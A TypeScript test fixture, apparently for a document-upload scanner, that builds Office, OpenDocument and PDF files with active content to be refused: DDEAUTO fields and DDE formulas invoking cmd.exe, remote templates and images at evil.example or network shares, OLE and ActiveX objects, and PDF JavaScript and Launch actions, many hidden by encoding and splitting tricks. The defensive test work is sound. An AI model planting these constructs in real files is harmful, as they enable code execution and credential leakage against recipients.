// Files that act by themselves or fetch something, and honest files that look a little like them. Each is
// a whole file of its format, built here, so that no such file lies in the repository.
import { deflateSync } from 'node:zlib';
import type { KindProblem } from '#app/domain/evidence/file-kinds.ts';
import { type ZipPart, zipOf } from './zip-writer.ts';

type Reason = KindProblem['reason'];
type Parts = Readonly<Record<string, string | Buffer>>;

const OFFICE = 'application/vnd.openxmlformats-officedocument';
const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006/relationships';
const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const SHEET = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const ODF = 'urn:oasis:names:tc:opendocument:xmlns';

const MAINS = {
  docx: ['wordprocessingml.document', 'word/document.xml'],
  xlsx: ['spreadsheetml.sheet', 'xl/workbook.xml'],
  pptx: ['presentationml.presentation', 'ppt/presentation.xml'],
} as const;

const zipped = (parts: Parts): Buffer =>
  zipOf(Object.entries(parts).map(([name, content]): ZipPart => ({ name, content })));

/** A Microsoft office file of these parts beside its main part. */
function office(kind: keyof typeof MAINS, parts: Parts = {}, types = ''): Buffer {
  const [type, main] = MAINS[kind];
  return zipped({
    '[Content_Types].xml': `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${main}" ContentType="${OFFICE}.${type}.main+xml"/>${types}</Types>`,
    [main]: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="${WORD}"/>`,
    ...parts,
  });
}

type Relation = readonly [type: string, target: string, external?: 'External'];

/** A .rels part. */
function relations(...given: readonly Relation[]): string {
  const each = given.map(
    ([type, target, external], index) =>
      `<Relationship Id="rId${index + 1}" Type="${RELATIONS}/${type}" Target="${target}"${external ? ` TargetMode="${external}"` : ''}/>`,
  );
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="${PACKAGE}">${each.join('')}</Relationships>`;
}

const word = (body: string): string =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="${WORD}"><w:body>${body}</w:body></w:document>`;

/** A Word file with this body. */
const docx = (body: string, more: Parts = {}): Buffer =>
  office('docx', { 'word/document.xml': word(body), ...more });

const run = (inside: string): string => `<w:r>${inside}</w:r>`;
const sign = (type: string): string => run(`<w:fldChar w:fldCharType="${type}"/>`);
const instruction = (text: string): string =>
  run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
/** A field whose instruction is split over these runs. */
const field = (...pieces: readonly string[]): string =>
  `<w:p>${sign('begin')}${pieces.map(instruction).join('')}${sign('separate')}${run('<w:t>x</w:t>')}${sign('end')}</w:p>`;

const docxWith = (...given: readonly Relation[]): Buffer =>
  docx('', { 'word/_rels/document.xml.rels': relations(...given) });
const withTemplate = (target: string): Buffer =>
  docx('', {
    'word/settings.xml': `<w:settings xmlns:w="${WORD}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
    'word/_rels/settings.xml.rels': relations(['attachedTemplate', target, 'External']),
  });

const workbook = (parts: Parts = {}): Buffer =>
  office('xlsx', {
    'xl/workbook.xml': `<workbook xmlns="${SHEET}"><sheets><sheet name="Staff" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': relations(['worksheet', 'worksheets/sheet1.xml']),
    'xl/worksheets/sheet1.xml': `<worksheet xmlns="${SHEET}"><sheetData><row r="1"><c r="A1"><v>8</v></c></row></sheetData></worksheet>`,
    ...parts,
  });
const cell = (formula: string): Parts => ({
  'xl/worksheets/sheet1.xml': `<worksheet xmlns="${SHEET}"><sheetData><row><c><f>${formula}</f></c></row></sheetData></worksheet>`,
});

const CHART =
  '<?xml version="1.0"?><c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:externalData r:id="rId1"/></c:chartSpace>';

/** A Word or PowerPoint file with a chart that refers to this workbook. */
function charted(kind: 'docx' | 'pptx', inside: Buffer): Buffer {
  const folder = kind === 'docx' ? 'word' : 'ppt';
  return office(kind, {
    [`${folder}/charts/chart1.xml`]: CHART,
    [`${folder}/charts/_rels/chart1.xml.rels`]: relations([
      'package',
      '../embeddings/Microsoft_Excel_Worksheet.xlsx',
    ]),
    [`${folder}/embeddings/Microsoft_Excel_Worksheet.xlsx`]: inside,
  });
}

/** A workbook with a chart with a workbook with a chart, so often. */
function nested(depth: number): Buffer {
  if (depth === 0) return workbook();
  return workbook({
    'xl/charts/chart1.xml': CHART,
    'xl/charts/_rels/chart1.xml.rels': relations(['package', '../embeddings/a.xlsx']),
    'xl/embeddings/a.xlsx': nested(depth - 1),
  });
}

const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);
const MACRO_SHEET =
  '<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData/></xm:macrosheet>';

function openDocument(kind: string, body: string, more: Parts = {}): Buffer {
  return zipOf([
    { name: 'mimetype', content: `application/vnd.oasis.opendocument.${kind}`, stored: true },
    {
      name: 'content.xml',
      content: `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="${ODF}:office:1.0" xmlns:draw="${ODF}:drawing:1.0" xmlns:text="${ODF}:text:1.0" xmlns:table="${ODF}:table:1.0"><office:body>${body}</office:body></office:document-content>`,
    },
    ...Object.entries(more).map(([name, content]) => ({ name, content })),
  ]);
}

/** A PDF of these objects, with a table of where they are. */
function pdf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const places: number[] = [];
  for (const [index, object] of objects.entries()) {
    places.push(Buffer.concat(parts).length);
    parts.push(Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n'));
  }
  const at = Buffer.concat(parts).length;
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${at}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

const CATALOG = '<</Type/Catalog/Pages 2 0 R>>';
const PAGES = '<</Type/Pages/Kids[3 0 R]/Count 1>>';
const PAGE = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>';
const catalog = (more: string): string => `<</Type/Catalog/Pages 2 0 R${more}>>`;
const onePage = (...more: readonly (string | Buffer)[]): Buffer =>
  pdf([CATALOG, PAGES, PAGE, ...more]);

function stream(dictionary: string, content: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`<<${dictionary}/Length ${content.length}>>\nstream\n`),
    content,
    Buffer.from('\nendstream'),
  ]);
}

/** Objects in one compressed stream. */
function objectStream(inside: string, { type = '/Type/ObjStm', filter = 'FlateDecode' } = {}) {
  const content = Buffer.from(`7 0 ${inside}`);
  return stream(`${type}/N 1/First 4/Filter/${filter}`, deflateSync(content));
}

const hexed = (content: Buffer | string): Buffer =>
  Buffer.from(`${Buffer.from(content).toString('hex')}>`);
const packedInHex = (content: string): Buffer => hexed(deflateSync(Buffer.from(content)));
const SCRIPT_PACKED = '7 0 <</S/JavaScript/JS(1)>>';
/** In a dictionary: makes it long, or seems to begin or end an object. */
const HIDING = ['/X(obj)', '/X(1 0 obj <<)', ' '.repeat(70_000), '/X<</Y(endstream)>>'] as const;

/** Noise that no program reads, as a picture has it; the same each time. */
function noise(length: number): Buffer {
  let state = 7;
  return Buffer.from(
    Uint8Array.from({ length }, () => {
      state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
      return state >> 16;
    }),
  );
}

/** A .rels part with one relation, written like this. */
const relation = (written: string): string =>
  `<?xml version="1.0"?><Relationships xmlns="${PACKAGE}" xmlns:z="urn:z"><Relationship ${written}/></Relationships>`;
const nestedField = (...inside: readonly string[]): string =>
  `<w:p>${sign('begin')}${inside.join('')}${sign('end')}</w:p>`;
const odsFormula = (formula: string): Buffer =>
  openDocument('spreadsheet', `<table:table-cell table:formula="${formula}"/>`);

/** A workbook with so many numbers and then this formula. */
export function manyCells(cells: number, formula: string): Buffer {
  const rows = Array.from(
    { length: cells },
    (_, at) => `<c r="A${at}"><v>${(at * 7919) % 9973}</v></c>`,
  );
  return workbook({
    'xl/worksheets/sheet1.xml': `<worksheet xmlns="${SHEET}"><sheetData>${rows.join('')}<c><f>${formula}</f></c></sheetData></worksheet>`,
  });
}

/** Each refused file: what it is, its name, its bytes, and why it is refused. */
export const ACTING: readonly (readonly [string, string, Buffer, Reason])[] = [
  // Excel 4 macros
  [
    'a macro sheet',
    'a.xlsx',
    workbook({ 'xl/macrosheets/sheet1.xml': MACRO_SHEET }),
    'macro-sheets',
  ],
  [
    'a macro sheet among the sheets',
    'a.xlsx',
    workbook({ 'xl/worksheets/sheet2.xml': MACRO_SHEET }),
    'macro-sheets',
  ],
  [
    'a macro sheet by its relation',
    'a.xlsx',
    workbook({
      'xl/_rels/workbook.xml.rels': relations(['xlMacrosheet', 'worksheets/sheet1.xml']),
    }),
    'macro-sheets',
  ],
  [
    'a macro sheet by its type',
    'a.xlsx',
    office(
      'xlsx',
      {},
      '<Override PartName="/xl/x.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
    ),
    'macro-sheets',
  ],
  [
    'a macro sheet in UTF-16',
    'a.xlsx',
    workbook({ 'xl/worksheets/sheet2.xml': Buffer.from(`\uFEFF${MACRO_SHEET}`, 'utf16le') }),
    'macro-sheets',
  ],
  // DDE
  ['a DDE field', 'a.docx', docx(field(' DDE Excel C:\\\\a.xlsx r1c1 ')), 'dde'],
  [
    'a DDEAUTO field',
    'a.docx',
    docx(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
    'dde',
  ],
  ['a DDEAUTO field in small letters', 'a.docx', docx(field(' ddeauto x y ')), 'dde'],
  [
    'a DDEAUTO field over three runs',
    'a.docx',
    docx(field(' DD', 'EAU', 'TO cmd "/k calc" ')),
    'dde',
  ],
  ['a DDEAUTO field in references', 'a.docx', docx(field('&#68;D&#x45;AUTO cmd "/k calc"')), 'dde'],
  [
    'a DDE field inside another',
    'a.docx',
    docx(`<w:p>${sign('begin')}${instruction(' IF ')}${field('DDE a b')}${sign('end')}</w:p>`),
    'dde',
  ],
  [
    'a DDE field that never ends',
    'a.docx',
    docx(`<w:p>${sign('begin')}${instruction('DDE a b')}</w:p>`),
    'dde',
  ],
  [
    'a DDE field made by a quotation',
    'a.docx',
    docx(
      `<w:p>${sign('begin')}${field('QUOTE DDEAUTO')}${instruction(' cmd x')}${sign('end')}</w:p>`,
    ),
    'dde',
  ],
  [
    'a simple DDE field',
    'a.docx',
    docx('<w:p><w:fldSimple w:instr=" DDEAUTO cmd x "/></w:p>'),
    'dde',
  ],
  ...['header1', 'footer2', 'footnotes', 'endnotes', 'comments', 'glossary/document'].map(
    (part) =>
      [
        `a DDE field in ${part}`,
        'a.docx',
        docx('', {
          [`word/${part}.xml`]: `<w:x xmlns:w="${WORD}">${field('DDEAUTO cmd x')}</w:x>`,
        }),
        'dde',
      ] as const,
  ),
  ['another prefix', 'a.docx', docx('<x:fldSimple x:instr="DDE a b"></x:fldSimple>'), 'dde'],
  [
    'a DDE link of a workbook',
    'a.xlsx',
    workbook({
      'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="${SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
    }),
    'dde',
  ],
  ['a DDE formula', 'a.xlsx', workbook(cell("cmd|'/c calc'!A0")), 'dde'],
  ['a DDE formula after a sign', 'a.xlsx', workbook(cell('=+cmd|&apos;/c calc&apos;!A0')), 'dde'],
  ['a DDE function', 'a.xlsx', workbook(cell('DDE("soffice";"a.ods";"A1")')), 'dde'],
  [
    'a DDE link of an ODS',
    'a.ods',
    openDocument('spreadsheet', '<table:dde-link><office:dde-source/></table:dde-link>'),
    'dde',
  ],
  [
    'a DDE formula of an ODS',
    'a.ods',
    openDocument(
      'spreadsheet',
      '<table:table-cell table:formula="of:=DDE(&quot;a&quot;;&quot;b&quot;)"/>',
    ),
    'dde',
  ],
  [
    'a DDE link of an ODT',
    'a.odt',
    openDocument('text', '<text:dde-connection-decl office:dde-application="cmd"/>'),
    'dde',
  ],
  // The same, written in other ways that are as good XML
  ...[
    '<w:instrText><![CDATA[DDEAUTO cmd x]]></w:instrText>',
    '<w:instrText>DD<![CDATA[EAUTO]]> cmd x</w:instrText>',
    '<w:instrText>DD<!-- x -->EAUTO cmd x</w:instrText>',
    '<w:instrText><!-- > --><?x >?>DDEAUTO cmd x</w:instrText>',
    '<w:instrText w:rsid="a>b">DDEAUTO cmd x</w:instrText>',
    '<w:fldSimple w:rsid="a>b" w:instr="DDEAUTO cmd x"/>',
    '<w:fldSimple xmlns:z="urn:z" w:instr="DDEAUTO cmd x" z:instr="PAGE"/>',
    '<w:instrText>DD</w:instrText><z:instrText xmlns:z="urn:z">x</z:instrText><w:instrText>E a</w:instrText>',
    '<w:instrText>DD</w:instrText><w:delInstrText>x</w:delInstrText><w:instrText>E a</w:instrText>',
    '<w:instrText>&#x00000044;DE a b</w:instrText>',
  ].map(
    (inside) =>
      [
        `a DDE field as ${inside}`,
        'a.docx',
        docx(`<w:p>${sign('begin')}${run(inside)}${sign('end')}</w:p>`),
        'dde',
      ] as const,
  ),
  ...[
    [field('QUOTE 68 68 69 65 85 84 79'), instruction(' cmd x')],
    [instruction('DD'), field('QUOTE 0x45'), instruction(' cmd x')],
    [field('REF C'), instruction(' cmd x')],
    [nestedField(field('QUOTE 68 68 69 32 99'))],
  ].map(
    (inside, index) =>
      [
        `a DDE field made by fields, ${index + 1}`,
        'a.docx',
        docx(`${field('SET C "DDEAUTO"')}${nestedField(...inside)}`),
        'dde',
      ] as const,
  ),
  [
    'a picture by codes',
    'a.docx',
    docx(
      nestedField(
        instruction('INCLUDEPICTURE '),
        field('QUOTE 104 116 116 112 58 47 47 120 46 101 120'),
      ),
    ),
    'remote-content',
  ],
  ...[
    "cmd&#124;'/c calc'!A0",
    'cmd|&#x27;/c calc&#x27;!A0',
    "<![CDATA[cmd|'/c calc'!A0]]>",
    "cmd<!-- -->|'/c calc'!A0",
    "SUM(cmd|'/c calc'!A0)",
    'cmd|topic!item',
    "&quot;it's&quot;&amp;cmd|'/c calc'!A0",
    "'cmd'|'/c calc'!A0",
    '1+DDE("a";"b";"c")',
    'SUM(dde ("a";"b";"c"))',
  ].map(
    (formula) => [`the DDE formula ${formula}`, 'a.xlsx', workbook(cell(formula)), 'dde'] as const,
  ),
  [
    'a DDE formula after an attribute',
    'a.xlsx',
    workbook({
      'xl/worksheets/sheet1.xml': `<worksheet xmlns="${SHEET}"><f ref="a>b">cmd|'/c calc'!A0</f></worksheet>`,
    }),
    'dde',
  ],
  [
    'a DDE formula in a name',
    'a.xlsx',
    workbook({
      'xl/workbook.xml': `<workbook xmlns="${SHEET}"><definedNames><definedName name="a">cmd|'/c calc'!A0</definedName></definedNames></workbook>`,
    }),
    'dde',
  ],
  ...[
    'of:=&#68;DE(&quot;a&quot;)',
    'of:=DDE (&quot;a&quot;)',
    "of:=LEN(&quot;'&quot;)+DDE(&quot;a&quot;)",
    `of:=${'1+'.repeat(150)}DDE(&quot;a&quot;)`,
    "msoxl:=cmd|'/c calc'!A0",
  ].map(
    (formula) =>
      [`the ODS formula ${formula.slice(-40)}`, 'a.ods', odsFormula(formula), 'dde'] as const,
  ),
  ...(
    [
      ['attachedTemplate', 'Id="a>b" ', ' TargetMode="External"', 'remote-template'],
      [
        'attachedTemplate',
        '',
        ' TargetMode="External" z:TargetMode="Internal" z:Type="hyperlink" z:Target="a"',
        'remote-template',
      ],
      ['attached&#84;emplate', '', ' TargetMode="&#69;xternal"', 'remote-template'],
      ['oleObject', "Id='a>b' ", '', 'embedded-object'],
      ['xlMacrosheet', 'Id="&gt;>" ', '', 'macro-sheets'],
    ] as const
  ).map(
    ([type, before, after, reason]) =>
      [
        `the relation ${type} ${before}${after}`,
        'a.docx',
        docx('', {
          'word/_rels/settings.xml.rels': relation(
            `${before}Type="${RELATIONS}/${type}" Target="https://evil.example/a"${after}`,
          ),
        }),
        reason,
      ] as const,
  ),
  [
    'a macro sheet by its type in references',
    'a.xlsx',
    office(
      'xlsx',
      {},
      '<Override PartName="/xl/x.xml" ContentType="application/vnd.ms-excel.macro&#115;heet+xml"/>',
    ),
    'macro-sheets',
  ],
  [
    'a button for a program in references',
    'a.pptx',
    office('pptx', {
      'ppt/slides/slide1.xml':
        '<p:sld><a:hlinkClick x="a>b" action="ppaction&#58;//program"/></p:sld>',
    }),
    'launch',
  ],
  // Objects
  [
    'an OLE object',
    'a.docx',
    docx('', {
      'word/_rels/document.xml.rels': relations(['oleObject', 'embeddings/oleObject1.bin']),
      'word/embeddings/oleObject1.bin': OLE,
    }),
    'embedded-object',
  ],
  [
    'an OLE object under another name',
    'a.pptx',
    office('pptx', { 'ppt/media/image1.png': OLE }),
    'embedded-object',
  ],
  [
    'a program',
    'a.docx',
    docx('', { 'word/media/image1.png': Buffer.from('MZ\x90\0\x03\0\0\0\x04') }),
    'embedded-object',
  ],
  [
    'a workbook that no chart refers to',
    'a.docx',
    docx('', {
      'word/_rels/document.xml.rels': relations(['package', 'embeddings/a.xlsx']),
      'word/embeddings/a.xlsx': workbook(),
    }),
    'embedded-object',
  ],
  [
    'a workbook that nothing refers to',
    'a.docx',
    docx('', { 'word/embeddings/a.xlsx': workbook() }),
    'embedded-object',
  ],
  ['a Word file behind a chart', 'a.docx', charted('docx', docx('')), 'embedded-object'],
  ['a page inside', 'a.docx', docxWith(['aFChunk', 'a.html']), 'embedded-object'],
  [
    'an OLE link',
    'a.xlsx',
    workbook({
      'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="${SHEET}"><oleLink progId="Package"/></externalLink>`,
    }),
    'embedded-object',
  ],
  [
    'an OLE object of LibreOffice',
    'a.odt',
    openDocument('text', '<draw:object-ole xlink:href="./Object 1"/>'),
    'embedded-object',
  ],
  [
    'a plug-in of LibreOffice',
    'a.odp',
    openDocument('presentation', '<draw:plugin xlink:href="a.swf"/>'),
    'embedded-object',
  ],
  [
    'an ActiveX control',
    'a.docx',
    docx('', { 'word/_rels/document.xml.rels': relations(['control', 'activeX/activeX1.xml']) }),
    'activex',
  ],
  [
    'an ActiveX part',
    'a.docx',
    docx('', {
      'word/activeX/activeX1.xml':
        '<?xml version="1.0"?><ax:ocx ax:classid="{0}" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
    }),
    'activex',
  ],
  // A chart's workbook is looked at as an upload of its own.
  [
    'a macro sheet behind a chart',
    'a.docx',
    charted('docx', workbook({ 'xl/macrosheets/sheet1.xml': MACRO_SHEET })),
    'macro-sheets',
  ],
  [
    'macros behind a chart',
    'a.pptx',
    charted('pptx', workbook({ 'xl/vbaProject.bin': 'x' })),
    'macros',
  ],
  [
    'a DDE formula behind a chart',
    'a.pptx',
    charted('pptx', workbook(cell("cmd|'/c calc'!A0"))),
    'dde',
  ],
  [
    'an OLE object behind a chart',
    'a.docx',
    charted('docx', workbook({ 'xl/a.bin': OLE })),
    'embedded-object',
  ],
  ['charts in charts in charts', 'a.docx', charted('docx', nested(5)), 'not-looked-through'],
  // Templates
  ...[
    'https://evil.example/a.dotm',
    'http://10.0.0.1/a.dotm',
    'HTTPS://evil.example/a.dotm',
    '\\\\server\\share\\a.dotm',
    '//server/share/a.dotm',
    'file://server/share/a.dotm',
    'file:////server/share/a.dotm',
    'file:///\\\\server\\share\\a.dotm',
    'file:///%5C%5Cserver/share/a.dotm',
    '\\\\?\\UNC\\server\\share\\a.dotm',
    'ht&#116;ps://evil.example/a.dotm',
    ' https://evil.example/a.dotm',
    'ftp://evil.example/a.dotm',
    'mhtml:https://evil.example/a!b',
    '\\\\?\\server\\share\\a.dotm',
    '\\??\\UNC\\server\\share\\a.dotm',
    '\\\\?\\GLOBALROOT\\Device\\Mup\\server\\a.dotm',
    'file://127.0.0.1/share/a.dotm',
    'file://c|@server/share/a.dotm',
    'file:///??/UNC/server/a.dotm',
    'h\u00ADttps://evil.example/a.dotm',
  ].map(
    (target) =>
      [`the template ${target}`, 'a.docx', withTemplate(target), 'remote-template'] as const,
  ),
  [
    'a template, attributes in another order',
    'a.docx',
    docx('', {
      'word/_rels/settings.xml.rels': `<x:Relationships xmlns:x="${PACKAGE}"><x:Relationship TargetMode='External' Target='https://evil.example/a.dotm' Id='r1' Type='${RELATIONS}/attachedTemplate'/></x:Relationships>`,
    }),
    'remote-template',
  ],
  [
    'a template in UTF-16',
    'a.docx',
    docx('', {
      'word/_rels/settings.xml.rels': Buffer.from(
        `\uFEFF${relations(['attachedTemplate', 'https://evil.example/a.dotm', 'External'])}`,
        'utf16le',
      ),
    }),
    'remote-template',
  ],
  [
    'a template of LibreOffice',
    'a.odt',
    openDocument('text', '', {
      'meta.xml': `<office:document-meta xmlns:office="${ODF}:office:1.0"><meta:template xlink:href="https://evil.example/a.ott"/></office:document-meta>`,
    }),
    'remote-template',
  ],
  // Fetched by themselves
  [
    'a picture from the web',
    'a.docx',
    docxWith(['image', 'https://evil.example/a.png', 'External']),
    'remote-content',
  ],
  [
    'a picture from a share',
    'a.docx',
    docxWith(['image', '\\\\server\\a.png', 'External']),
    'remote-content',
  ],
  ['a frame', 'a.docx', docxWith(['frame', 'http://evil.example/', 'External']), 'remote-content'],
  [
    'a linked object',
    'a.docx',
    docxWith(['oleObject', 'https://evil.example/a.doc', 'External']),
    'remote-content',
  ],
  [
    'a part of a document elsewhere',
    'a.docx',
    docxWith(['subDocument', 'file://server/a.docx', 'External']),
    'remote-content',
  ],
  [
    'a picture by a field',
    'a.docx',
    docx(field(' INCLUDEPICTURE "https://evil.example/a.png" \\d ')),
    'remote-content',
  ],
  [
    'a text of a share by a field',
    'a.docx',
    docx(field(' INCLUDETEXT "\\\\\\\\server\\\\share\\\\a.docx" ')),
    'remote-content',
  ],
  [
    'a VML picture',
    'a.docx',
    docx('<v:shape><v:imagedata src="https://evil.example/a.png"/></v:shape>'),
    'remote-content',
  ],
  [
    'a picture of an ODT',
    'a.odt',
    openDocument('text', '<draw:image xlink:href="https://evil.example/a.png"/>'),
    'remote-content',
  ],
  [
    'a section of an ODT',
    'a.odt',
    openDocument('text', '<text:section-source xlink:href="//server/a.odt"/>'),
    'remote-content',
  ],
  // Actions
  [
    'a button for a program',
    'a.pptx',
    office('pptx', {
      'ppt/slides/slide1.xml':
        '<p:sld><a:hlinkClick r:id="rId1" action="ppaction://program"/></p:sld>',
    }),
    'launch',
  ],
  [
    'a script of LibreOffice',
    'a.odt',
    openDocument(
      'text',
      '<script:event-listener xlink:href="vnd.sun.star.script:a?language=Python"/>',
    ),
    'macros',
  ],
  [
    'entities in a part',
    'a.docx',
    docx('', { 'word/styles.xml': '<!DOCTYPE x [<!ENTITY a "b">]><x/>' }),
    'unsafe-archive',
  ],
  [
    'an encoding that hides',
    'a.docx',
    docx('', { 'word/styles.xml': '<?xml version="1.0" encoding="utf-7"?><x/>' }),
    'not-looked-through',
  ],
  // PDF
  [
    'a script on opening',
    'a.pdf',
    pdf([catalog('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'), PAGES, PAGE]),
    'pdf-script',
  ],
  [
    'a script in the names',
    'a.pdf',
    pdf([
      catalog('/Names<</JavaScript<</Names[(a)4 0 R]>>>>'),
      PAGES,
      PAGE,
      '<</JS(1)/S/#4aavaScript>>',
    ]),
    'pdf-script',
  ],
  ['a script by codes', 'a.pdf', onePage('<</S /J#61v#61Script /JS (1)>>'), 'pdf-script'],
  [
    'a script by codes, every letter',
    'a.pdf',
    onePage('<</#53/#4A#61#76#61#53#63#72#69#70#74/JS(1)>>'),
    'pdf-script',
  ],
  [
    'a script of an annotation',
    'a.pdf',
    onePage('<</Type/Annot/AA<</E<</S/JavaScript/JS 5 0 R>>>>>>'),
    'pdf-script',
  ],
  ['a script after a comment', 'a.pdf', onePage('<</S%x\n/JavaScript/JS(1)>>'), 'pdf-script'],
  [
    'a script whose name is an object',
    'a.pdf',
    onePage('<</S 5 0 R/JS(1)>>', '/JavaScript'),
    'pdf-script',
  ],
  [
    'a script in compressed objects',
    'a.pdf',
    onePage(objectStream('<</S/JavaScript/JS(1)>>')),
    'pdf-script',
  ],
  [
    'a script in compressed objects by codes',
    'a.pdf',
    onePage(
      objectStream('<</S/J#61vaScript/J#53(1)>>', {
        type: '/Type/Obj#53tm',
        filter: 'Fl#61teDecode',
      }),
    ),
    'pdf-script',
  ],
  [
    'a script in compressed objects without a type',
    'a.pdf',
    onePage(objectStream('<</S/JavaScript/JS(1)>>', { type: '' })),
    'pdf-script',
  ],
  [
    'a script in objects that hide their dictionary',
    'a.pdf',
    onePage(
      stream(
        '/N 1/First 4/Filter/FlateDecode/X(1 0 obj)',
        deflateSync(Buffer.from('7 0 <</S/JavaScript/JS(1)>>')),
      ),
    ),
    'pdf-script',
  ],
  [
    'a script in objects in two filters',
    'a.pdf',
    onePage(
      stream(
        '/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]',
        packedInHex(SCRIPT_PACKED),
      ),
    ),
    'pdf-script',
  ],
  [
    'a rendition with a script',
    'a.pdf',
    onePage(objectStream('<</S/Rendition/OP 0/JS(1)>>')),
    'pdf-script',
  ],
  [
    'a rendition with a script in the open',
    'a.pdf',
    pdf([catalog('/OpenAction<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>'), PAGES, PAGE]),
    'pdf-script',
  ],
  ['a script key by codes', 'a.pdf', onePage('<</S/Rendition/OP 0/#4a#53 5 0 R>>'), 'pdf-script'],
  [
    'a script in a string that a table points into',
    'a.pdf',
    onePage('<</X(5 0 obj <</S/JavaScript/JS<31>>> endobj)>>'),
    'pdf-script',
  ],
  [
    'a script after a string with brackets and escapes',
    'a.pdf',
    onePage('<</Title(a \\) \\\\(b) c)/A<</S/Rendition/JS(1)>>>>'),
    'pdf-script',
  ],
  [
    'a script where a word seems to end the object',
    'a.pdf',
    onePage('<</X endobj/A<</S/Rendition/JS(1)>>>>'),
    'pdf-script',
  ],
  [
    'a script in a direct trailer',
    'a.pdf',
    Buffer.concat([onePage(), Buffer.from('trailer<</Root<</OpenAction<</JS(1)>>>>>>\n%%EOF\n')]),
    'pdf-script',
  ],
  ...HIDING.flatMap((hiding) =>
    (
      [
        ['hex', '/ASCIIHexDecode', hexed(SCRIPT_PACKED)],
        ['hex and Flate', '[/ASCIIHexDecode/FlateDecode]', packedInHex(SCRIPT_PACKED)],
        ['short names', '[/AHx /Fl]', packedInHex(SCRIPT_PACKED)],
        ['nothing', '[]', Buffer.from(SCRIPT_PACKED)],
      ] as const
    ).map(
      ([how, filter, content]) =>
        [
          `a script in objects packed in ${how}, hidden by ${hiding.trim().slice(0, 20)}`,
          'a.pdf',
          onePage(stream(`/Type/ObjStm/N 1/First 4/Filter${filter}${hiding}`, content)),
          'pdf-script',
        ] as const,
    ),
  ),
  [
    'a script in compressed objects with zeros for spaces',
    'a.pdf',
    onePage(
      stream(
        '/Type/ObjStm/N 1/First 4/Filter/FlateDecode/X(obj)',
        deflateSync(Buffer.from('7\x000\0<</S/JavaScript/JS(1)>>')),
      ),
    ),
    'pdf-script',
  ],
  [
    'a script in compressed objects, inside a string that the beginning points into',
    'a.pdf',
    onePage(
      stream(
        '/Type/ObjStm/N 1/First 4/Filter/FlateDecode',
        deflateSync(Buffer.from('7 1 (<</S/JavaScript/JS<31>>>)')),
      ),
    ),
    'pdf-script',
  ],
  [
    'compressed objects that begin at two places',
    'a.pdf',
    onePage(stream('/Type/ObjStm/N 1/First 4/First 9/Filter/FlateDecode', deflateSync(noise(80)))),
    'not-looked-through',
  ],
  [
    'compressed objects whose filter stands elsewhere',
    'a.pdf',
    onePage(stream('/Type/ObjStm/N 1/First 4/Filter 5 0 R', hexed(SCRIPT_PACKED)), '/AHx'),
    'not-looked-through',
  ],
  [
    'an action whose kind is a compressed object',
    'a.pdf',
    pdf([
      catalog('/OpenAction<</Type/Action/S 7 0 R/F(cmd.exe)>>'),
      PAGES,
      PAGE,
      objectStream('/Launch'),
    ]),
    'pdf-launch',
  ],
  [
    'an action whose kind is the second compressed object',
    'a.pdf',
    onePage(
      stream(
        '/Type/ObjStm/N 2/First 9/Filter/FlateDecode',
        deflateSync(Buffer.from('7 0 8 5  <<>>/Launch ')),
      ),
    ),
    'pdf-launch',
  ],
  ...['obj%comment\n/Launch', 'obj\0/Launch', '%c\nobj /Launch', 'obj/L#61unch'].map(
    (kind) =>
      [
        `an action whose kind is an object: ${JSON.stringify(kind)}`,
        'a.pdf',
        Buffer.concat([
          pdf([catalog('/OpenAction<</S 9 0 R/F(cmd.exe)>>'), PAGES, PAGE]),
          Buffer.from(`9 0 ${kind} endobj\n%%EOF\n`),
        ]),
        'pdf-launch',
      ] as const,
  ),
  ...HIDING.map(
    (hiding) =>
      [
        `an attached program in hex, hidden by ${hiding.trim().slice(0, 20)}`,
        'a.pdf',
        onePage(stream(`/Type/EmbeddedFile/Filter/AHx${hiding}`, hexed('MZ\x90'))),
        'embedded-object',
      ] as const,
  ),
  [
    'an attached program that does not call itself attached',
    'a.pdf',
    onePage(stream('/Filter/FlateDecode', deflateSync(Buffer.from('MZ\x90\0\x03\0')))),
    'embedded-object',
  ],
  [
    'an attached program that calls itself a picture',
    'a.pdf',
    onePage(
